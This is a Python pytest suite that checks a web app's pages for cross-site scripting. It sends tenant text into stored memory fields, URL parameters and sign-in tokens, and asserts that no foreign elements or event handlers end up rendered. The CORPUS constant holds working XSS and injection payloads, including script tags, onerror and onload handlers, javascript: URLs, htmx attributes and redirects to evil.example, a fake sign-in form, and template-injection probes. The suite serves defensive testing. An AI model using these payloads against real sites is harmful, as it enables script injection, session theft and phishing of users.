"""No text that a tenant writes runs in the browser, or becomes a part of a page."""

from uuid import uuid4

import pytest

from tests.support.web.chromium import Chromium, Tab
from tests.support.web.explorer_site import SCRIPT

AGENT = "/agents/intake-bot"
RUN = "alert(document.domain)"
CORPUS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></script><script>{RUN}</script>",
    f"<details open ontoggle={RUN}><input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN} hx-get=//evil.example hx-trigger=load>x</a>",
    f"<div hx-on:load='{RUN}' data-hx-get=//evil.example data-hx-trigger=load>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example><link rel=prefetch href=//evil.example>",
    "<form action=//evil.example><button>Sign in</button></form><style>*{display:none}</style>",
    f"javascript:{RUN}",
    "[link](javascript:alert(1)) ![image](https://evil.example/x.png) https://evil.example/",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; \\u003cscript\\u003e",
    "\ufeff\u202e<b>gpj.exe</b>\u2066",
)  # fmt: skip
# Two of them in each field, because opening a page takes a sixth of a second of CPU.
PAIRS = [" ".join(CORPUS[start : start + 2]) for start in range(0, len(CORPUS), 2)]
# Elements and attributes that no template has.
FOREIGN = (
    "iframe, object, embed, base, style, b, script:not([src^='/ui/static/']), link:not([href^='/ui/static/']),"
    " meta[http-equiv], img:not([src^='/ui/static/']), form:not([action^='/ui/']):not([method=post]),"
    " a[href]:not([href^='/ui'], [href^='#main']), [srcdoc], [style], [data-hx-get], [hx-get]:not([hx-get^='/ui/'])"
)
FIND_HANDLERS = """() => [...document.querySelectorAll("*")].flatMap(
  (element) => element.getAttributeNames().filter((name) => /^(on|hx-on|data-hx)/.test(name)))"""


def check_page(tab: Tab) -> None:
    """Fail if a page has an element or attribute that the templates do not have."""
    assert tab.page.locator(FOREIGN).evaluate_all("(found) => found.map((element) => element.outerHTML)") == []
    assert tab.page.evaluate(FIND_HANDLERS) == []


@pytest.mark.parametrize("number", range(len(PAIRS)))
def test_no_field_of_a_memory_becomes_a_part_of_a_page(tab: Tab, number: int) -> None:
    text = PAIRS[number]
    user = f"{uuid4().hex[:8]} {text}"
    words = dict.fromkeys(("session_id", "speaker", "subject", "category", "domain", "status_value", "context"), text)
    fields: dict[str, object] = {
        **words,
        "tags": [*CORPUS[2 * number : 2 * number + 2]],
        "metadata": {text: [text]},
        "author": text,
        "key": text,
        "event_type": text,
    }
    old = tab.site.store(user, f"earlier {text}", agent="intake-bot", **fields)
    new = tab.site.store(user, text, agent="intake-bot", supersedes=old, **fields)
    shown = text.replace("\ufeff", "BOM").replace("\u202e", "RLO").replace("\u2066", "LRI")

    for path in (f"memories/{new}", "timeline", "ask", "user", "changes"):
        assert tab.open(f"{AGENT}/{path}", user_id=user, query=text) == 200
        check_page(tab)
        if path not in ("user", "changes"):
            assert shown in tab.page.locator(".text").first.inner_text()
    assert shown in tab.page.locator("#changes tr").last.inner_text()


@pytest.mark.parametrize("page", ["ask", "timeline", "users", "user", "graph", "changes", "receipts"])
def test_no_text_of_an_address_becomes_a_part_of_a_page(chromium: Chromium, page: str) -> None:
    with chromium.tab() as tab:
        for text in PAIRS:
            query = {"user_id": text, "query": text, "type": text, "tag": text, "session_id": text, "at": text}
            tab.open(f"{AGENT}/{page}", **query, at_time=text, top_k=text, cursor=text, w_recency=text, before=text)
            check_page(tab)

        # Chromium reports in its console that a page is an error.
        assert [fault for fault in tab.faults if not fault.startswith("Failed to load resource")] == []


def test_no_name_of_an_agent_or_token_becomes_a_part_of_a_page(chromium: Chromium) -> None:
    with chromium.tab(None) as tab:
        for text in PAIRS:
            tab.open("/sign-in")
            tab.page.get_by_label("Token").fill(text)
            tab.page.keyboard.press("Enter")
            tab.page.get_by_role("alert").wait_for()
            check_page(tab)
        assert [fault for fault in tab.faults if not fault.startswith("Failed to load resource")] == []
    with chromium.tab() as tab:
        for text in PAIRS:
            tab.open("/agents/" + "".join(f"%{byte:02X}" for byte in text.encode()))
            check_page(tab)
        assert [fault for fault in tab.faults if not fault.startswith("Failed to load resource")] == []


def test_texts_of_objects_users_and_names_are_shown_as_they_are(tab: Tab) -> None:
    site = tab.site
    site.store("names", f"Ada Lovelace met Grace Hopper {SCRIPT}", agent="intake-bot")
    site.ask("PUT", "/users/names", {"name": SCRIPT}, agent="intake-bot")
    relation = {"user_id": "names", "relation": "uses", "source": SCRIPT, "target": f"{SCRIPT} too"}
    site.ask("PUT", "/relations", relation, agent="intake-bot")

    for path, text in (("", SCRIPT), ("/user?user_id=names", SCRIPT), ("/graph?user_id=names", SCRIPT)):
        tab.open(f"{AGENT}{path}")
        check_page(tab)
        assert text in tab.page.locator("main").inner_text()


def test_a_live_change_is_shown_as_text(tab: Tab) -> None:
    user = f"live {SCRIPT}"
    tab.open(f"{AGENT}/changes", user_id=user)
    tab.page.get_by_text("Live:").wait_for()

    tab.site.store(user, "Live drinks tea", agent="intake-bot")
    tab.page.locator("tr.new", has_text=user).wait_for()

    check_page(tab)
